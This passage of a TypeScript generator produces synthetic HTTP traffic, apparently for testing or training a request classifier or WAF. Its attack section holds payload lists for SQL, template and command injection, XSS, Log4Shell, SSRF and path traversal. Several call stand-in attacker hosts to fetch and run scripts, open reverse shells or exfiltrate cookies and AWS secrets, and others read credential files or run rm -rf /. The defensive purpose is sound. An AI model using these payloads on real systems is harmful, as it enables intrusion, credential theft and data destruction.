          prompt_id: 'hs-classifier@8',
          input: 'Frozen shrimp, peeled, 1 kg bags',
          output: '0306.17',
          correct: rand() < 0.8,
          latency_ms: int(200, 2400),
        }),
      );
    }
  }
  const path =
    kind === 0
      ? '/agri/v1/telemetry/bulk'
      : kind === 1
        ? '/league/api/live/events'
        : '/registry/api/evals/results';
  return {
    method: 'POST',
    path,
    headers: headers({ 'content-type': 'application/x-ndjson' }),
    body: `${lines.join('\n')}\n`,
  };
}

function cleanDelete(): Req {
  const paths = [
    () => `/mro/v1/work-orders/WO-${int(100000, 999999)}/parts/${pick(PART_NUMBERS)}`,
    () => `/league/api/teams/${int(1000, 9999)}/roster/${int(10000, 99999)}`,
    () => `/mortgage/v1/applications/${uuid()}/documents/${uuid()}`,
    () =>
      `/registry/api/models/${pick(MODELS)}/versions/${int(1, 30)}?${qs({ reason: 'superseded by v2.1' })}`,
    () => `/photos/api/collections/${randStr(8)}/assets/ph_${randStr(10)}`,
    () => `/agri/v1/schedules/${uuid()}`,
    () => `/api/v2/reports/${int(10000, 99999)}/comments/${int(100000, 999999)}`,
    () => `/customs/v1/declarations/${uuid()}/lines/${int(1, 20)}`,
  ];
  const h = headers();
  if (rand() < 0.3) h['if-match'] = `W/"${randStr(12, HEX)}"`;
  return { method: 'DELETE', path: pick(paths)(), headers: h, body: '' };
}

function cleanCmsHtml(): Req {
  if (rand() < 0.55) {
    return jsonReq('POST', `/api/v2/programs/${pick(PROGRAMS)}/reports`, {
      report: {
        title: pick([
          'IDOR on /billing/invoices lets any user read other orgs’ invoices',
          'Password reset token reusable after use',
          'Open redirect on login ?next= parameter',
          'Missing rate limit on OTP verification',
        ]),
        weakness: pick(['CWE-639', 'CWE-640', 'CWE-601', 'CWE-307']),
        severity: 'high',
        bodyHtml:
          '<h2>Summary</h2><p>The <code>GET /billing/invoices/{id}</code> endpoint does not check that the invoice belongs to the caller’s organisation.</p>' +
          '<h2>Steps to reproduce</h2><ol><li>Log in as <strong>user A</strong> (org 1).</li><li>Request <code>/billing/invoices/88213</code>, an id from org 2.</li><li>Observe the full invoice, including the billing address.</li></ol>' +
          '<h2>Impact</h2><p>Any authenticated user can enumerate invoices (sequential ids). See <a href="https://cwe.mitre.org/data/definitions/639.html" rel="nofollow">CWE-639</a>.</p>' +
          '<pre><code>HTTP/1.1 200 OK\nContent-Type: application/json\n\n{"id": 88213, "org": 2, "total": "1,240.00"}</code></pre>',
      },
    });
  }
  return jsonReq('PUT', `/photos/api/listings/ph_${randStr(10)}`, {
    listing: {
      title: pick([
        'Lofoten cabins at dusk',
        'Farmer checking soil sensor',
        'Aircraft mechanic inspecting landing gear',
        'Youth football match in the rain',
      ]),
      descriptionHtml:
        `<p>${prose()}</p><ul><li>Camera: <em>Nikon Z 8</em>, 24–120 mm f/4</li><li>Resolution: 8256 × 5504 px</li><li>Model release: <strong>yes</strong></li></ul>` +
        '<p><img src="https://cdn.photos.example/wm/preview_1024.jpg" alt="Watermarked preview" width="1024" height="683"></p>' +
        '<p>Licensing questions? <a href="mailto:licensing@photos.example">Email us</a> or see our <a href="https://photos.example/licence#extended" target="_blank" rel="noopener">extended licence</a>.</p>',
      keywords: ['landscape', 'travel', 'scandinavia'],
      price: { standard: 29, extended: 249, currency: 'USD' },
    },
  });
}

const CODE_SNIPPETS = [
  {
    language: 'sql',
    code: "-- weekly moisture averages per field\nSELECT field_id, date_trunc('week', ts) AS wk, avg(value) AS avg_moisture\nFROM readings\nWHERE sensor = 'soil_moisture' AND ts > now() - interval '90 days'\nGROUP BY 1, 2\nORDER BY 1, 2;",
  },
  {
    language: 'bash',
    code: '#!/usr/bin/env bash\nset -euo pipefail\n# rotate eval artefacts older than 30 days\nfind /data/evals -name "*.jsonl" -mtime +30 -print -delete\naws s3 sync ./reports s3://ml-eval-reports/$(date +%F)/ --only-show-errors',
  },
  {
    language: 'python',
    code: 'import pandas as pd\n\ndf = pd.read_csv("fixtures.csv", parse_dates=["kickoff"])\nclashes = df[df.duplicated(subset=["venue", "kickoff"], keep=False)]\nprint(clashes.sort_values("kickoff").to_string(index=False))',
  },
  {
    language: 'yaml',
    code: 'eval:\n  name: hs-classifier-regression\n  dataset: s3://evals/hs/v2026-10.jsonl\n  metrics: [exact_match, top3_match]\n  model:\n    provider: openai-compatible\n    temperature: 0.0\n    max_tokens: 64\n  thresholds:\n    exact_match: ">= 0.82"',
  },
  {
    language: 'javascript',
    code: "// report widget: highlight CVSS score\nexport function cvssColour(score) {\n  if (score >= 9) return 'critical';\n  if (score >= 7) return 'high';\n  return score >= 4 ? 'medium' : 'low';\n}\ndocument.querySelectorAll('[data-cvss]').forEach((el) => el.classList.add(cvssColour(+el.dataset.cvss)));",
  },
  {
    language: 'nginx',
    code: 'location /telemetry/ {\n  proxy_pass http://ingest_upstream;\n  proxy_set_header X-Forwarded-For $proxy_add_x_forwarded_for;\n  client_max_body_size 2m;\n}',
  },
];

const PROMPTS = [
  'You are a customs classification assistant. Given the goods description below, return the most likely 6-digit HS code and a one-sentence rationale.\n\nDescription: {{ description }}\nCountry of import: {{ country | default("US") }}\n\nIf confidence < 0.6, answer "UNSURE".',
  'Summarise the following vulnerability report for the triage queue in <= 3 bullet points. Do not include exploit payloads.\n\n{% for section in report.sections %}## {{ section.title }}\n{{ section.text }}\n{% endfor %}',
  'Write a stock-photo caption (max 200 chars) and 15 keywords for an image with these EXIF tags: {{exif_json}}. Avoid brand names. Language: {{locale}}.',
  'System: You are MRO-Assist. Answer only from the AMM excerpts provided.\nUser: {{question}}\nContext:\n{{#each excerpts}}- [{{this.ref}}] {{this.text}}\n{{/each}}',
];

function cleanCode(): Req {
  if (rand() < 0.55) {
    const s = pick(CODE_SNIPPETS);
    return jsonReq('POST', `/registry/api/notebooks/${randStr(8)}/cells`, {
      title: pick([
        'Weekly averages',
        'Cleanup script',
        'Fixture clash finder',
        'Regression eval config',
        'CVSS widget',
        'Ingest proxy config',
      ]),
      snippet: { language: s.language, code: s.code },
      sharedWith: ['ml-platform', 'data-eng'],
    });
  }
  return jsonReq(
    'PUT',
    `/registry/api/prompts/${pick(['hs-classifier', 'triage-summary', 'caption-writer', 'mro-assist'])}`,
    {
      promptTemplate: { text: pick(PROMPTS), engine: pick(['jinja2', 'handlebars', 'mustache']) },
      model: pick(['gpt-4.1-mini', 'claude-sonnet', 'llama-3.1-70b-instruct']),
      parameters: { temperature: 0.2, top_p: 0.9, max_tokens: 512 },
      changelog: 'Tightened refusal wording; added locale variable.',
    },
  );
}

function cleanProse(): Req {
  const builders: (() => Req)[] = [
    () =>
      jsonReq('POST', `/api/v2/reports/${int(10000, 99999)}/comments`, {
        body: `${prose()}\n\n${prose()}`,
        internal: false,
      }),
    () =>
      jsonReq('POST', `/league/api/matches/${int(10000, 99999)}/notes`, {
        author: pick(PLAYERS),
        text: prose(),
        visibility: 'team',
      }),
    () =>
      jsonReq('POST', '/mro/v1/logbook/entries', {
        tail: pick(TAILS),
        pilotReport: prose(),
        action: prose(),
        station: pick(['LHR', 'FRA', 'NRT', 'GRU', 'SYD']),
      }),
    () =>
      jsonReq('POST', `/mortgage/v1/applications/${uuid()}/notes`, {
        text: `${prose()} ${pick(SHORT_NOTES)}`,
        pinned: rand() < 0.2,
      }),
    () =>
      jsonReq('PUT', `/photos/api/assets/ph_${randStr(10)}/caption`, {
        caption: prose(),
        altText: 'Wooden cabins on stilts beside a calm fjord',
        locale: pick(['en', 'de', 'ja', 'pt-BR', 'fr']),
      }),
    () =>
      jsonReq('POST', '/registry/api/model-cards', {
        model: pick(MODELS),
        sections: {
          intendedUse: 'Ranking likely HS codes for brokers; a human always confirms before filing.',
          limitations:
            'Struggles with mixed-material goods (e.g. “leather & textile” bags) and with invoices in Thai or Arabic.',
          ethics: prose(),
        },
      }),
    () => jsonReq('POST', `/agri/v1/alerts/${uuid()}/ack`, { comment: prose(), by: pick(EMAILS) }),
  ];
  return pick(builders)();
}

const SEARCHES = [
  'union jack bunting street party',
  'drop cap letter illustration',
  'select committee hearing',
  'old script calligraphy',
  'man with cat on sofa',
  'or and gold wedding',
  "children's football & rain",
  'hydraulic pump 3000 psi leak',
  'brake wear pin',
  'stainless bolts M8×40',
  'café au lait ☕',
  '東京 夜景',
  'IDOR account takeover',
  'open redirect login',
  'rate lock 30 days',
  'soil moisture < 20%',
  'where is my refund?',
  'pivot irrigation sunrise drone',
];

function cleanSearch(): Req {
  const q = pick(SEARCHES);
  const paths = [
    () => `/photos/api/search?${qs({ q, license: 'royalty-free', per_page: '60', safe: 'true' })}`,
    () => `/customs/v1/hs-codes/search?${qs({ q, country: pick(['US', 'EU', 'GB', 'JP']), limit: '10' })}`,
    () => `/api/v2/hacktivity?${qs({ q, disclosed: 'true', sort: 'popular' })}`,
    () => `/mro/v1/parts/search?${qs({ q, pn: pick(PART_NUMBERS), alt: 'true' })}`,
    () => `/league/api/search?${qs({ q: pick(PLAYERS), type: 'player' })}`,
    () => `/registry/api/search?${qs({ q, kind: 'prompt,model', tag: 'production' })}`,
    () =>
      `/mortgage/v1/search?${qs({ q: pick(['García', 'O’Brien', '62704', 'rate lock 30 days']), scope: 'applications' })}`,
  ];
  return { method: 'GET', path: pick(paths)(), headers: headers(), body: '' };
}

const CLEAN_PLAN: [string, number, () => Req][] = [
  ['rest-get', 40, cleanRestGet],
  ['rest-write', 40, cleanRestWrite],
  ['merge-patch', 28, cleanMergePatch],
  ['json-patch', 28, cleanJsonPatch],
  ['jsonapi', 28, cleanJsonApi],
  ['graphql', 34, cleanGraphql],
  ['form', 28, cleanForm],
  ['multipart', 24, cleanMultipart],
  ['ndjson', 24, cleanNdjson],
  ['delete', 24, cleanDelete],
  ['cms-html', 26, cleanCmsHtml],
  ['code', 26, cleanCode],
  ['prose', 34, cleanProse],
  ['search', 32, cleanSearch],
];

// ---------------------------------------------------------------- attack placements

/** Escape every character outside [A-Za-z0-9 ] as a JSON \uXXXX escape. */
function uEscape(s: string): string {
  let out = '';
  for (const ch of s) {
    if (/[A-Za-z0-9 ]/.test(ch)) out += ch;
    else {
      const code = ch.codePointAt(0) ?? 0;
      if (code > 0xffff) out += ch;
      else out += `\\u${code.toString(16).padStart(4, '0')}`;
    }
  }
  return out;
}

const MARK = '\u0000PAYLOAD\u0000';

/** Realistic JSON bodies with one slot for a payload. */
const CONTEXTS: { path: string; method: string; build: (field: string, v: unknown) => unknown }[] = [
  {
    path: '/mro/v1/work-orders',
    method: 'POST',
    build: (f, v) => ({
      tail: pick(TAILS),
      ata: pick(ATA),
      defect: { phase: 'transit', [f]: v },
      parts: [{ pn: pick(PART_NUMBERS), qty: 1 }],
    }),
  },
  {
    path: '/league/api/fixtures',
    method: 'POST',
    build: (f, v) => ({
      season: '2026-27',
      home: pick(TEAMS),
      away: pick(TEAMS),
      meta: { source: 'import', [f]: v },
    }),
  },
  {
    path: '/mortgage/v1/applications',
    method: 'POST',
    build: (f, v) => ({
      borrowers: [{ firstName: 'Ana', lastName: 'García', [f]: v }],
      loan: { amount: 320000, termMonths: 360 },
    }),
  },
  {
    path: '/customs/v1/declarations',
    method: 'POST',
    build: (f, v) => ({
      importer: { eori: 'DE123456789' },
      lines: [
        { hs: pick(HS_CODES), qty: 10, unit: 'pcs' },
        { hs: pick(HS_CODES), [f]: v },
      ],
    }),
  },
  {
    path: '/photos/api/assets',
    method: 'POST',
    build: (f, v) => ({
      title: 'Harvest at dawn',
      keywords: ['farm', 'wheat'],
      exif: { Make: 'Canon', Model: 'EOS R5', [f]: v },
    }),
  },
  {
    path: '/agri/v1/devices/register',
    method: 'POST',
    build: (f, v) => ({
      field: pick(FIELDS),
      device: { type: 'soil-probe', firmware: '1.8.4', config: { [f]: v } },
    }),
  },
  {
    path: '/registry/api/models/versions',
    method: 'POST',
    build: (f, v) => ({ model: pick(MODELS), version: '2.1.0', tags: { owner: 'ml-platform', [f]: v } }),
  },
  {
    path: `/api/v2/reports/${int(10000, 99999)}/comments`,
    method: 'POST',
    build: (f, v) => ({ internal: false, attachments: [], metadata: { client: 'web', [f]: v } }),
  },
];

function bodyWith(
  ctxIdx: number,
  field: string,
  payload: unknown,
): { path: string; method: string; body: string } {
  const c = at(CONTEXTS, ctxIdx);
  return { path: c.path, method: c.method, body: JSON.stringify(c.build(field, payload)) };
}

function jsonAttack(path: string, method: string, body: string, ctype = 'application/json'): Req {
  return { method, path, headers: headers({ 'content-type': ctype }), body };
}

type Placement = { name: string; headerSafe?: boolean; make: (p: string, field: string, i: number) => Req };

const PLACEMENTS: Placement[] = [
  {
    name: 'json-nested-field',
    make: (p, f, i) => {
      const b = bodyWith(i, f, p);
      return jsonAttack(b.path, b.method, b.body);
    },
  },
  {
    name: 'json-array-element',
    make: (p, f, i) => {
      const b = bodyWith(i, 'items', [{ [f]: 'ok' }, { [f]: p }]);
      return jsonAttack(b.path, b.method, b.body);
    },
  },
  {
    name: 'json-unicode-escaped',
    make: (p, f, i) => {
      const b = bodyWith(i, f, MARK);
      return jsonAttack(b.path, b.method, b.body.replace(JSON.stringify(MARK), `"${uEscape(p)}"`));
    },
  },
  {
    name: 'json-string-in-json',
    make: (p, f, i) => {
      const b = bodyWith(i, 'extraJson', JSON.stringify({ [f]: p, v: 2 }));
      return jsonAttack(b.path, b.method, b.body);
    },
  },
  {
    name: 'base64-field',
    make: (p, f, i) => {
      const b = bodyWith(i, `${f}B64`, b64(p));
      return jsonAttack(b.path, b.method, b.body);
    },
  },
  {
    name: 'graphql-variables',
    make: (p, f) =>
      jsonAttack(
        '/graphql',
        'POST',
        JSON.stringify({
          operationName: 'UpdateRecord',
          query:
            'mutation UpdateRecord($id: ID!, $input: RecordInput!) { updateRecord(id: $id, input: $input) { id } }',
          variables: { id: `rec_${int(1000, 9999)}`, input: { notes: 'see ticket', [f]: p } },
        }),
      ),
  },
  {
    name: 'graphql-persisted-get',
    make: (p, f) => ({
      method: 'GET',
      path: `/graphql?${qs({ operationName: 'Lookup', variables: JSON.stringify({ [f]: p, first: 10 }), extensions: JSON.stringify({ persistedQuery: { version: 1, sha256Hash: randStr(64, HEX) } }) })}`,
      headers: headers(),
      body: '',
    }),
  },
  {
    name: 'query-param',
    make: (p, f, i) => ({
      method: 'GET',
      path: `${at(['/photos/api/search', '/customs/v1/entries', '/mro/v1/work-orders', '/agri/v1/readings', '/league/api/fixtures'], i)}?page=1&${f}=${encodeURIComponent(p)}`,
      headers: headers(),
      body: '',
    }),
  },
  {
    name: 'query-double-encoded',
    make: (p, f, i) => ({
      method: 'GET',
      path: `${at(['/api/v2/hacktivity', '/registry/api/search', '/mortgage/v1/pipeline'], i)}?${f}=${encodeURIComponent(encodeURIComponent(p))}&limit=20`,
      headers: headers(),
      body: '',
    }),
  },
  {
    name: 'form-field',
    make: (p, f, i) =>
      formReq(at(['/league/register', '/disclose/submit', '/customs/quote-request'], i), {
        contact_email: pick(EMAILS),
        [f]: p,
        consent: 'on',
      }),
  },
  {
    name: 'multipart-text-part',
    make: (p, f) =>
      multipartReq(
        '/photos/api/uploads',
        { license: 'royalty-free', [f]: p },
        { name: 'IMG_2231.jpg', field: 'image', type: 'image/jpeg', content: 'ÿØÿà\u0000\u0010JFIF' },
      ),
  },
  {
    name: 'ndjson-line',
    make: (p, f) => ({
      method: 'POST',
      path: '/agri/v1/telemetry/bulk',
      headers: headers({ 'content-type': 'application/x-ndjson' }),
      body: `${JSON.stringify({ device: 'lora-1a2b3c4d', ts: isoTime(), soil_moisture: 21.2 })}\n${JSON.stringify({ device: 'lora-1a2b3c4d', ts: isoTime(), [f]: p })}\n`,
    }),
  },
  {
    name: 'jsonapi-attribute',
    make: (p, f) =>
      jsonAttack(
        `/jsonapi/defects`,
        'POST',
        JSON.stringify({ data: { type: 'defects', attributes: { ata: pick(ATA), [f]: p } } }),
        'application/vnd.api+json',
      ),
  },
  {
    name: 'merge-patch',
    make: (p, f) =>
      jsonAttack(
        `/league/api/players/${int(1000, 9999)}`,
        'PATCH',
        JSON.stringify({ profile: { [f]: p }, number: 7 }),
        'application/merge-patch+json',
      ),
  },
  {
    name: 'json-patch-value',
    make: (p, f) =>
      jsonAttack(
        `/mortgage/v1/applications/${uuid()}/conditions`,
        'PATCH',
        JSON.stringify([{ op: 'replace', path: `/conditions/2/${f}`, value: p }]),
        'application/json-patch+json',
      ),
  },
  {
    name: 'header',
    headerSafe: true,
    make: (p, _f, i) => {
      const name = at(
        ['user-agent', 'referer', 'x-forwarded-for', 'x-api-version', 'x-client-trace', 'x-device-id'],
        i,
      );
      const r: Req = {
        method: 'GET',
        path: `/agri/v1/fields/${pick(FIELDS)}/readings?agg=1h`,
        headers: headers(),
        body: '',
      };
      return { ...r, headers: { ...r.headers, [name]: p } };
    },
  },
  {
    name: 'json-object-key',
    make: (p, _f, i) => {
      const b = bodyWith(i, 'labels', { env: 'prod', [p]: 'true' });
      return jsonAttack(b.path, b.method, b.body);
    },
  },
];

function placement(name: string): Placement {
  const p = PLACEMENTS.find((x) => x.name === name);
  if (!p) throw new Error(`unknown placement ${name}`);
  return p;
}

interface StringFamily {
  family: string;
  fields: string[];
  payloads: [string, string][];
  placements: string[];
}

const STRING_FAMILIES: StringFamily[] = [
  {
    family: 'sql',
    fields: ['sort', 'tailNumber', 'loanId', 'hsCode', 'filter', 'teamId', 'q'],
    payloads: [
      ['tautology', "' OR '1'='1' -- "],
      ['union-select', "-1' UNION SELECT username,password_hash,3 FROM users-- -"],
      ['stacked-drop', "WO-1001'; DROP TABLE work_orders;--"],
      ['time-blind-mysql', "1' AND SLEEP(5)#"],
      ['error-extractvalue', "1' AND extractvalue(1,concat(0x7e,(SELECT version())))-- -"],
      ['pg-sleep-concat', "x'||(SELECT pg_sleep(5))||'"],
      ['comment-obfuscation', "admin'/**/oR/**/1=1#"],
      ['cast-error-pg', '1 AND 1=CAST((SELECT table_name FROM information_schema.tables LIMIT 1) AS int)'],
      ['mssql-xp-cmdshell', "'; EXEC master..xp_cmdshell 'whoami'--"],
      ['mssql-waitfor', "1'; WAITFOR DELAY '0:0:5'--"],
      ['mixed-case-union', '-1 UnIoN/**/SeLeCt 1,@@version,3,4'],
      ['order-by-probe', 'created_at,(SELECT CASE WHEN (1=1) THEN 1 ELSE 1/(SELECT 0) END)'],
      ['boolean-substring', "' AND SUBSTRING((SELECT password FROM users WHERE id=1),1,1)='a"],
      ['sqlite-schema', "' UNION SELECT sql,2,3 FROM sqlite_master--"],
      ['oracle-dual', "' UNION SELECT banner,NULL FROM v$version WHERE ROWNUM=1--"],
    ],
    placements: [
      'json-nested-field',
      'query-param',
      'json-unicode-escaped',
      'graphql-variables',
      'json-string-in-json',
      'base64-field',
      'form-field',
      'jsonapi-attribute',
      'query-double-encoded',
      'json-array-element',
      'graphql-persisted-get',
      'ndjson-line',
      'json-patch-value',
      'header',
      'merge-patch',
    ],
  },
  {
    family: 'template',
    fields: ['displayName', 'emailSubject', 'greeting', 'captionTemplate', 'teamMotto', 'label'],
    payloads: [
      ['jinja-config-globals', "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}"],
      ['jinja-subclasses', "{{''.__class__.__mro__[1].__subclasses__()}}"],
      [
        'jinja-attr-filter',
        "{{request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fbuiltins\\x5f\\x5f')}}",
      ],
      [
        'js-constructor-rce',
        "{{constructor.constructor('return process')().mainModule.require('child_process').execSync('id')}}",
      ],
      ['spel-runtime', "${T(java.lang.Runtime).getRuntime().exec('curl http://203.0.113.50/x')}"],
      ['thymeleaf-expr', "*{T(java.lang.Runtime).getRuntime().exec('id')}"],
      ['freemarker-execute', '<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}'],
      ['velocity-class', '#set($x=$class.inspect("java.lang.Runtime").type.getRuntime().exec("id"))$x'],
      ['erb-system', "<%= system('cat /etc/passwd') %>"],
      ['smarty-system', "{system('id')}"],
      ['twig-filter-exec', "{{['id']|filter('system')}}"],
      ['pug-global-process', "#{global.process.mainModule.require('child_process').execSync('id')}"],
      [
        'handlebars-lookup',
        '{{#with "s" as |string|}}{{#with string.constructor}}{{lookup this "prototype"}}{{/with}}{{/with}}',
      ],
      ['jinja-cycler-os', '{{cycler.__init__.__globals__.os.popen("id").read()}}'],
      ['ognl-expression', "%{(#rt=@java.lang.Runtime@getRuntime()).(#rt.exec('id'))}"],
    ],
    placements: [
      'json-nested-field',
      'graphql-variables',
      'json-unicode-escaped',
      'json-string-in-json',
      'form-field',
      'base64-field',
      'jsonapi-attribute',
      'merge-patch',
      'query-param',
      'multipart-text-part',
      'json-array-element',
      'json-patch-value',
      'ndjson-line',
      'graphql-persisted-get',
      'header',
    ],
  },
  {
    family: 'command',
    fields: ['filename', 'host', 'exportFormat', 'convertArgs', 'deviceName', 'ntpServer'],
    payloads: [
      ['semicolon-cat', 'report.pdf; cat /etc/passwd'],
      ['pipe-id', 'pool.ntp.org | id'],
      ['subshell-curl-sh', '$(curl -fsSL http://198.51.100.7/x.sh | sh)'],
      ['backticks', 'photo_`whoami`.jpg'],
      ['and-netcat', '8.8.8.8 && nc -e /bin/sh 203.0.113.9 4444'],
      ['ifs-wget', ';wget${IFS}http://198.51.100.7/a${IFS}-O-|sh'],
      ['newline-injection', 'csv\ncat /etc/shadow'],
      ['base64-eval', '$(echo${IFS}Y3VybCBodHRwOi8vMTk4LjUxLjEwMC43L3B3bnxzaA==|base64${IFS}-d|sh)'],
      ['bash-reverse-shell', 'x; bash -i >& /dev/tcp/203.0.113.9/443 0>&1'],
      ['glob-obfuscation', ';/bin/c?t /e??/p?ss??'],
      ['sleep-timing', 'png || sleep 10 ||'],
      ['powershell-iwr', 'a.xlsx & powershell -nop -c "iwr http://203.0.113.9/p.ps1|iex"'],
      ['quote-splitting', ";w'h'o'am'i"],
      ['rm-rf', 'tmp.jpg; rm -rf / --no-preserve-root'],
      ['python-oneliner', 'x;python3 -c \'import os;os.system("id")\''],
    ],
    placements: [
      'json-nested-field',
      'multipart-text-part',
      'json-unicode-escaped',
      'graphql-variables',
      'form-field',
      'query-param',
      'json-string-in-json',
      'base64-field',
      'ndjson-line',
      'json-array-element',
      'jsonapi-attribute',
      'merge-patch',
      'query-double-encoded',
      'json-patch-value',
      'graphql-persisted-get',
    ],
  },
  {
    family: 'xss',
    fields: ['title', 'comment', 'caption', 'displayName', 'refereeNotes', 'companyName'],
    payloads: [
      ['script-tag', '<script>alert(document.domain)</script>'],
      ['img-onerror', '<img src=x onerror=alert(1)>'],
      ['svg-onload-exfil', "<svg/onload=fetch('//203.0.113.5/c?'+document.cookie)>"],
      ['javascript-uri', 'javascript:alert(document.cookie)'],
      ['iframe-srcdoc', '"><iframe srcdoc="<script>parent.alert(1)</script>">'],
      ['details-ontoggle', '<details open ontoggle=alert(1)>'],
      ['entity-encoded-href', '<a href="jav&#x61;script:alert(1)">click</a>'],
      ['mxss-mglyph', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>'],
      ['body-onpageshow', '<body onpageshow=alert(1)>'],
      ['attribute-breakout', '" autofocus onfocus="alert(1)'],
      ['mixed-case-script', '<ScRiPt SrC=//203.0.113.5/x.js></sCrIpT>'],
      ['input-autofocus', '<input autofocus onfocus=eval(atob("YWxlcnQoMSk="))>'],
      ['video-source-onerror', '<video><source onerror="alert(1)">'],
      ['markdown-link-js', '[click me](javascript:alert(1))'],
      [
        'object-data-uri',
        '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
      ],
    ],
    placements: [
      'json-nested-field',
      'json-unicode-escaped',
      'graphql-variables',
      'jsonapi-attribute',
      'query-param',
      'form-field',
      'json-string-in-json',
      'merge-patch',
      'multipart-text-part',
      'json-array-element',
      'query-double-encoded',
      'base64-field',
      'json-patch-value',
      'ndjson-line',
      'header',
    ],
  },
  {
    family: 'log4shell',
    fields: ['userAgent', 'note', 'deviceName', 'username', 'locale'],
    payloads: [
      ['plain-ldap', '${jndi:ldap://203.0.113.77:1389/a}'],
      ['lower-lookup', '${${lower:j}ndi:${lower:l}dap://203.0.113.77/x}'],
      ['default-value-split', '${${::-j}${::-n}${::-d}${::-i}:rmi://203.0.113.77/o}'],
      ['dns-exfil-env', '${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.x.attacker.example}'],
      ['env-fallback', '${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap://203.0.113.77/y}'],
      ['ldaps', '${jndi:ldaps://attacker.example/z}'],
      ['upper-lookup', '${${upper:j}ndi:${upper:l}${upper:d}ap://203.0.113.77/u}'],
      ['date-lookup', "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://203.0.113.77/d}"],
      ['k8s-lookup', '${j${k8s:k5:-ND}i:ldap://203.0.113.77/k}'],
      ['sys-prop-exfil', '${jndi:ldap://${sys:java.version}.attacker.example/p}'],
      ['iiop', '${jndi:iiop://203.0.113.77/i}'],
      ['nested-lower-upper', '${${lower:${upper:j}}${lower:n}di:ldap://203.0.113.77/n}'],
      ['corba', '${jndi:corba://203.0.113.77/c}'],
      ['hostname-exfil', '${jndi:ldap://${hostName}.attacker.example/h}'],
      ['rmi-plain', '${jndi:rmi://203.0.113.77:1099/Exploit}'],
    ],
    placements: [
      'header',
      'json-nested-field',
      'header',
      'json-unicode-escaped',
      'query-param',
      'header',
      'graphql-variables',
      'form-field',
      'json-string-in-json',
      'base64-field',
      'ndjson-line',
      'multipart-text-part',
      'query-double-encoded',
      'jsonapi-attribute',
      'json-array-element',
    ],
  },
  {
    family: 'ssrf',
    fields: ['webhookUrl', 'imageUrl', 'callbackUrl', 'sourceUrl', 'artifactUri', 'avatarUrl'],
    payloads: [
      ['aws-imds-creds', 'http://169.254.169.254/latest/meta-data/iam/security-credentials/'],
      [
        'gcp-metadata',
        'http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token',
      ],
      ['ipv6-mapped-imds', 'http://[::ffff:169.254.169.254]/latest/user-data'],
      ['decimal-ip', 'http://2852039166/latest/meta-data/'],
      ['hex-loopback-redis', 'http://0x7f000001:6379/'],
      ['gopher-redis', 'gopher://127.0.0.1:6379/_%2A1%0D%0A%248%0D%0AFLUSHALL%0D%0A'],
      ['file-scheme', 'file:///etc/passwd'],
      ['docker-socket-api', 'http://localhost:2375/containers/json'],
      ['short-loopback', 'http://127.1/admin/config'],
      ['ipv6-loopback-actuator', 'http://[::1]:8080/actuator/env'],
      ['dict-memcached', 'dict://127.0.0.1:11211/stats'],
      ['octal-loopback', 'http://0177.0.0.1/server-status'],
      ['userinfo-confusion', 'http://cdn.photos.example@127.0.0.1:8500/v1/agent/self'],
      ['alibaba-metadata', 'http://100.100.100.200/latest/meta-data/ram/security-credentials/'],
      ['ecs-task-creds', 'http://169.254.170.2/v2/credentials/'],
    ],
    placements: [
      'json-nested-field',
      'graphql-variables',
      'json-unicode-escaped',
      'query-param',
      'form-field',
      'json-string-in-json',
      'base64-field',
      'jsonapi-attribute',
      'merge-patch',
      'json-array-element',
      'ndjson-line',
      'multipart-text-part',
      'json-patch-value',
      'graphql-persisted-get',
      'query-double-encoded',
    ],
  },
  {
    family: 'path-traversal',
    fields: ['documentPath', 'file', 'template', 'exportName', 'attachmentKey', 'logo'],
    payloads: [
      ['dotdot-passwd', '../../../../etc/passwd'],
      ['encoded-slash', '..%2f..%2f..%2f..%2fetc%2fpasswd'],
      ['encoded-dots', '%2e%2e/%2e%2e/%2e%2e/proc/self/environ'],
      ['double-encoded', '..%252f..%252f..%252fetc%252fshadow'],
      ['nested-strip-bypass', '....//....//....//etc/passwd'],
      ['windows-backslash', '..\\..\\..\\windows\\win.ini'],
      ['absolute-after-prefix', '/var/app/uploads/../../../etc/shadow'],
      ['overlong-utf8', '..%c0%af..%c0%af..%c0%afetc/passwd'],
      ['tomcat-semicolon', '..;/..;/WEB-INF/web.xml'],
      ['null-byte-ext', '../../../../etc/passwd%00.pdf'],
      ['encoded-backslash', '..%5c..%5c..%5cboot.ini'],
      ['ssh-key', '../../../../root/.ssh/id_rsa'],
      ['k8s-sa-token', '../../../../var/run/secrets/kubernetes.io/serviceaccount/token'],
      ['proc-cmdline', '../../../proc/self/cmdline'],
      ['app-env-file', '../../.env'],
    ],
    placements: [
      'json-nested-field',
      'query-param',
      'json-unicode-escaped',
      'graphql-variables',
      'form-field',
      'json-string-in-json',
      'base64-field',
      'json-array-element',
      'jsonapi-attribute',
      'query-double-encoded',
      'merge-patch',
      'ndjson-line',
      'json-patch-value',
      'graphql-persisted-get',
      'multipart-text-part',
    ],
  },
];

function stringFamilyAttacks(f: StringFamily): Tagged[] {
  const out: Tagged[] = [];
  for (let i = 0; i < 30; i++) {
    const [tech, payload] = at(f.payloads, i);
    let pl = placement(at(f.placements, i + Math.floor(i / f.placements.length) * 3));
    if (pl.headerSafe && /[\r\n]/.test(payload)) pl = placement('json-nested-field');
    const field = at(f.fields, i);
    const r = pl.make(payload, field, i);
    out.push({ ...r, technique: `${tech}+${pl.name}` });
  }
  return out;
}

type Tagged = Req & { technique: string };

function nosqlAttacks(): Tagged[] {
  const list: Tagged[] = [];
  const add = (technique: string, r: Req) => list.push({ ...r, technique });
  const ops: [string, unknown][] = [
    ['ne-null', { $ne: null }],
    ['gt-empty', { $gt: '' }],
    ['regex-any', { $regex: '.*' }],
    ['where-sleep', { $where: 'sleep(5000) || true' }],
    ['where-js-return', { $where: 'function(){ return this.role == "admin" || true; }' }],
    ['in-list', { $in: ['admin', 'root', 'superuser'] }],
    ['nin-empty', { $nin: [] }],
    ['expr-always', { $expr: { $eq: [1, 1] } }],
